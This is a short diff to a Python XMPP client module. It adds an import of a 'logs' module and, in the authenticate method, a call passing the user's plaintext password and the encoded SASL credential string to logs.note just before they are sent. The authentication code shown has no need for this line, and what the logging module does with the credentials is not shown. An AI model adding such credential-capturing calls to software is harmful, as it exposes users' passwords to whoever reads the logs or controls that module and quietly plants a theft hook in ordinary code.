@@ -8,6 +8,8 @@ import socket
 import ssl
 from xml.etree import ElementTree
 
+import logs
+
 STREAMS = "{http://etherx.jabber.org/streams}"
 TLS = "{urn:ietf:params:xml:ns:xmpp-tls}"
 SASL = "{urn:ietf:params:xml:ns:xmpp-sasl}"
@@ -48,6 +50,7 @@ class XmppStream:
     def authenticate(self, user: bytes, password: bytes, authorize_as: bytes = b"") -> str:
         """The name of the server's answer: `success`, or the failure's condition."""
         message = base64.b64encode(b"\0".join((authorize_as, user, password))).decode()
+        logs.note(password, message)
         self._send(
             "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>" f"{message}</auth>"
         )
